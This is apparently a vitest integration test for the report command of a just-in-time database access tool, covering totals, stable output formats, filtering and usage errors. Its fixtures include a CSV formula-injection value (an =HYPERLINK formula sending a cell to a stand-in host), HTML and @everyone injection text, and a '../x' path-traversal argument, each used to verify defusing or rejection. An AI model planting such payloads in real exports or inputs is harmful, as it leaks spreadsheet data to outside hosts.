// `jit report` on a real state database: a month of ledger rows (normal expiry, early revoke with an
// extension, a refused late merge, an overdue revoke, another database), a refusal that left no
// ledger row, a drift finding; totals, stable output in every format, an empty period, usage errors.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type pg from "pg";
import { Ajv2020 } from "ajv/dist/2020.js";
import addFormats from "ajv-formats";
import reportSchema from "../../schemas/report.schema.json" with { type: "json" };
import { main } from "../../src/cli/main.ts";
import { captureIo } from "../../src/cli/io.ts";
import { migrate } from "../../src/db/migrations.ts";
import { createPool } from "../../src/db/state.ts";
import { startPostgres, type TestCluster } from "../harness/postgres.ts";

let cluster: TestCluster;
let pool: pg.Pool;
let url: string;

const H = 3_600_000;

async function row(o: {
  id: string; db?: string; pr: number; status: string; created: string; durationMs: number; revokedAfterMs?: number | null; failure?: string;
  reason?: string; requester?: string; membershipGone?: boolean;
}): Promise<number> {
  const created = new Date(o.created);
  const granted = o.status === "failed" ? null : new Date(created.getTime() + 1000);
  const expires = granted ? new Date(granted.getTime() + o.durationMs) : null;
  const revoked = granted && o.revokedAfterMs != null ? new Date(granted.getTime() + o.revokedAfterMs) : null;
  const { rows } = await pool.query(
    `INSERT INTO ledger (repository, path, request_id, pr_number, approvers, database, cluster_id, role, db_user, duration_ms, status, created_at,
                         granted_at, expires_at, revoked_at, revoke_reason, revoked_by, failure_code, actor, verification, reason, ticket, requester)
     VALUES ('acme/access', $1, $2, $3, '{dora}', $4, 'c1', 'orders_readonly', 'alice', $5, $6, $7, $8, $9, $10, $11, $12, $13, 'test', $14, $15, 'INC-1', $16)
     RETURNING id::int8 AS id`,
    [`access-requests/${o.db ?? "orders-prod"}/${o.id}.yaml`, o.id, o.pr, o.db ?? "orders-prod", o.durationMs, o.status, created, granted, expires, revoked,
      revoked ? "expired" : null, revoked ? "sweeper" : null, o.failure ?? null,
      JSON.stringify(revoked ? { revoke: { membershipGone: o.membershipGone ?? true, sessionsLeft: 0 } } : {}), o.reason ?? "Investigate", o.requester ?? "alice"]);
  return Number(rows[0].id);
}

beforeAll(async () => {
  cluster = await startPostgres();
  const su = await cluster.connect();
  await su.query("CREATE DATABASE state");
  await su.end();
  url = cluster.superuserUrl("state");
  pool = createPool({ connectionString: url });
  await migrate(pool);
  await row({ id: "g1", pr: 1, status: "revoked", created: "2026-10-05T10:00:00Z", durationMs: H, revokedAfterMs: H + 10_000, reason: '=HYPERLINK("http://x.example/?"&A1)' });
  const g2 = await row({ id: "g2", pr: 2, status: "revoked", created: "2026-10-10T10:00:00Z", durationMs: 4 * H, revokedAfterMs: 2 * H, reason: "a | pipe\nand <b>html</b> @everyone" });
  await pool.query(`INSERT INTO events (ledger_id, kind, repository, database, request_id, actor, details, at)
                    VALUES ($1, 'extended', 'acme/access', 'orders-prod', 'g2', 'test', '{"prNumber": 7}', '2026-10-10T11:00:00Z')`, [g2]);
  await row({ id: "g3", pr: 3, status: "failed", created: "2026-10-20T10:00:00Z", durationMs: H, failure: "JIT_WINDOW_PASSED" });
  await row({ id: "g4", pr: 4, status: "revoked", created: "2026-10-25T10:00:00Z", durationMs: 2 * H, revokedAfterMs: 2 * H + 5 * 60_000 });
  await row({ id: "g5", pr: 5, status: "revoked", created: "2026-11-02T10:00:00Z", durationMs: H, revokedAfterMs: H });
  await row({ id: "g6", db: "billing", pr: 6, status: "revoked", created: "2026-10-28T10:00:00Z", durationMs: H / 2, revokedAfterMs: H / 2 });
  // The merge-once records: a refusal with no ledger row (counted), and g3's (already counted by its row).
  await pool.query(`INSERT INTO outbox (kind, dedupe_key, payload, done, created_at) VALUES
    ('merge', 'merge:acme/access#50', $1, true, '2026-10-12T09:00:00Z'),
    ('merge', 'merge:acme/access#3', $2, true, '2026-10-20T10:00:00Z'),
    ('merge', 'merge:acme/access#51', $3, true, '2026-10-13T09:00:00Z')`, [
    JSON.stringify({ kind: "refused", code: "JIT_APPROVALS_MISSING", problems: [{ code: "JIT_APPROVALS_MISSING", message: "0 of 1", path: "access-requests/orders-prod/x.yaml" }] }),
    JSON.stringify({ kind: "refused", code: "JIT_WINDOW_PASSED", problems: [] }),
    JSON.stringify({ kind: "granted", existing: false }),
  ]);
  await pool.query(`INSERT INTO events (kind, code, database, details, at) VALUES ('drift_orphan_revoked', 'JIT_DRIFT_ORPHAN_GRANT', 'orders-prod', '{}', '2026-10-15T00:00:00Z')`);
});
afterAll(async () => {
  await pool?.end();
  await cluster?.stop();
});

async function report(...args: string[]) {
  const io = captureIo({ DATABASE_URL: url });
  const code = await main(["report", ...args], io);
  return { code, out: io.stdout.join("\n"), err: io.stderr.join("\n") };
}

const OCTOBER = ["--since", "2026-10-01", "--until", "2026-11-01"];

describe("jit report", () => {
  it("lists every grant recorded in the period with totals; JSON matches schemas/report.schema.json", async () => {
    const { code, out, err } = await report(...OCTOBER, "--format", "json");
    expect(err).toBe("");
    expect(code).toBe(0);
    const r = JSON.parse(out);
    const ajv = new Ajv2020({ strict: true, allErrors: true });
    addFormats.default(ajv);
    const valid = ajv.validate(reportSchema, r);
    expect(ajv.errors ?? [], JSON.stringify(ajv.errors)).toEqual([]);
    expect(valid).toBe(true);
    expect(r.period).toEqual({ since: "2026-10-01T00:00:00.000Z", until: "2026-11-01T00:00:00.000Z", database: null, asOf: "2026-11-01T00:00:00.000Z" });
    expect(r.grants.map((g: { requestId: string }) => g.requestId)).toEqual(["g1", "g2", "g3", "g4", "g6"]);
    const breakGlassKnown = (await pool.query("SELECT to_regclass('break_glass_grants') IS NOT NULL AS known")).rows[0].known as boolean;
    expect(r.totals).toEqual({
      requests: 6, granted: 4, refused: 2, refusedByCode: { JIT_APPROVALS_MISSING: 1, JIT_WINDOW_PASSED: 1 },
      byStatus: { failed: 1, revoked: 4 }, medianDurationMs: 1.5 * H, maxDurationMs: 4 * H, extended: 1, revokedEarly: 1, overdueRevokes: 1,
      breakGlass: breakGlassKnown ? 0 : null, autoApproved: 0, driftFindings: 1, rebuilt: 0,
      events: { "drift_orphan_revoked:JIT_DRIFT_ORPHAN_GRANT": 1, extended: 1 },
    });
    expect(r.grants[1]).toMatchObject({ requestId: "g2", revokedEarly: true, overdue: false, extensions: 1, revokeVerified: true, requester: "alice", ticket: "INC-1" });
    expect(r.grants[3]).toMatchObject({ requestId: "g4", revokedEarly: false, overdue: true });
    expect(r.refusals).toEqual([{ at: "2026-10-12T09:00:00.000Z", repository: "acme/access", prNumber: 50, code: "JIT_APPROVALS_MISSING", path: "access-requests/orders-prod/x.yaml" }]);
  });

  it("is deterministic: the same ledger gives byte-identical output in every format", async () => {
    for (const format of ["json", "csv", "md"]) {
      const a = await report(...OCTOBER, "--format", format);
      const b = await report(...OCTOBER, "--format", format);
      expect(a.code).toBe(0);
      expect(a.out).toBe(b.out);
    }
  });

  it("--database narrows rows, refusals and events to one key", async () => {
    const r = JSON.parse((await report(...OCTOBER, "--database", "billing")).out);
    expect(r.grants.map((g: { requestId: string }) => g.requestId)).toEqual(["g6"]);
    expect(r.totals).toMatchObject({ requests: 1, granted: 1, refused: 0, driftFindings: 0 });
  });

  it("CSV: documented header, one line per grant, formula cells defused, quotes doubled", async () => {
    const { code, out } = await report(...OCTOBER, "--format", "csv");
    expect(code).toBe(0);
    const lines = out.split("\r\n");
    expect(lines[0]).toBe("recordedAt,repository,database,requestId,status,role,dbUser,requester,approvers,prNumber,mergeSha,mergedAt,grantedAt,expiresAt,durationMs,extensions,revokedAt,revokedBy,revokeReason,revokedEarly,overdue,sessionsEnded,revokeVerified,failureCode,breakGlass,autoApproved,ticket,reason,rebuilt,path");
    expect(lines).toHaveLength(6);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
    expect(lines[1]!.startsWith("2026-10-05T10:00:00.000Z,acme/access,orders-prod,g1,revoked,")).toBe(true);
    expect(lines[2]).toContain('"a | pipe and <b>html</b> @everyone"');
  });

  it("Markdown: totals table and grants, untrusted text escaped", async () => {
    const { code, out } = await report(...OCTOBER, "--format", "md");
    expect(code).toBe(0);
    expect(out).toContain("| requests | 6 |");
    expect(out).toContain("| refused | 2 (JIT_APPROVALS_MISSING 1, JIT_WINDOW_PASSED 1) |");
    expect(out).toContain("| median duration | 1h30m |");
    expect(out).toContain("| overdue revokes | 1 |");
    expect(out).toContain("| auto-approved | 0 |");
    expect(out).toContain("a \\| pipe and \\<b\\>html\\</b\\> `@everyone`");
    expect(out).not.toContain("<b>");
  });

  it("an empty period reports zero everywhere (exit 0)", async () => {
    const json = await report("--since", "2020-01-01", "--until", "2020-02-01");
    expect(json.code).toBe(0);
    const r = JSON.parse(json.out);
    expect(r.grants).toEqual([]);
    expect(r.totals).toMatchObject({ requests: 0, granted: 0, refused: 0, medianDurationMs: null, maxDurationMs: null, driftFindings: 0 });
    expect((await report("--since", "2020-01-01", "--until", "2020-02-01", "--format", "md")).out).toContain("No grants in this period.");
    expect((await report("--since", "2020-01-01", "--until", "2020-02-01", "--format", "csv")).out.split("\r\n")).toHaveLength(1);
  });

  it("accepts RFC 3339 times with offsets; the period is [since, until)", async () => {
    const r = JSON.parse((await report("--since", "2026-10-05T12:00:00+02:00", "--until", "2026-10-10T10:00:00Z")).out);
    expect(r.period.since).toBe("2026-10-05T10:00:00.000Z");
    expect(r.grants.map((g: { requestId: string }) => g.requestId)).toEqual(["g1"]);
  });

  it("counts auto-approved grants (approver auto_approve[N]) and break-glass grants (break_glass_grants) where the ledger records them", async () => {
    const auto = await row({ id: "auto-1", pr: 70, status: "revoked", created: "2026-12-02T10:00:00Z", durationMs: H, revokedAfterMs: H });
    await pool.query("UPDATE ledger SET approvers = '{auto_approve[0]}' WHERE id = $1", [auto]);
    await row({ id: "bg-1", pr: 71, status: "revoked", created: "2026-12-03T10:00:00Z", durationMs: H, revokedAfterMs: H });
    const december = ["--since", "2026-12-01", "--until", "2027-01-01"];
    const before = JSON.parse((await report(...december)).out);
    expect(before.totals.autoApproved).toBe(1);
    expect(before.grants.map((g: { requestId: string; autoApproved: boolean }) => [g.requestId, g.autoApproved])).toEqual([["auto-1", true], ["bg-1", false]]);
    // the break-glass feature's table (its own migration creates it; here the columns it has)
    await pool.query(`CREATE TABLE IF NOT EXISTS break_glass_grants (id bigserial PRIMARY KEY, repository text NOT NULL, database text NOT NULL, request_id text NOT NULL,
      pr_number integer NOT NULL, requester text NOT NULL, db_user text NOT NULL, head_sha text NOT NULL, deadline timestamptz NOT NULL)`);
    await pool.query(`INSERT INTO break_glass_grants (repository, database, request_id, pr_number, requester, db_user, head_sha, deadline)
      VALUES ('acme/access', 'orders-prod', 'bg-1', 71, 'alice', 'alice', 'h', '2026-12-03T14:00:00Z')`);
    const after = JSON.parse((await report(...december)).out);
    expect(after.totals).toMatchObject({ breakGlass: 1, autoApproved: 1 });
    expect(after.grants.map((g: { breakGlass: boolean }) => g.breakGlass)).toEqual([false, true]);
  });

  it.each([
    [["--since", "2026-11-01", "--until", "2026-10-01"], "--since is after --until"],
    [["--since", "2026-13-01", "--until", "2026-12-01"], "--since: not a date"],
    [["--since", "yesterday", "--until", "2026-12-01"], "--since: not a date"],
    [["--since", "2026-10-01", "--until", "2026-10-01T25:00:00Z"], "--until: not a date"],
    [["--since", "2026-10-01"], "--since DATE and --until DATE are required"],
    [[...OCTOBER, "--format", "xml"], "--format must be json, csv or md"],
    [[...OCTOBER, "--database", "../x"], "--database is not a database key"],
  ])("usage error, exit 2: %j", async (args, message) => {
    const { code, out, err } = await report(...args);
    expect(code).toBe(2);
    expect(out).toBe("");
    expect(err).toContain(message);
  });
});
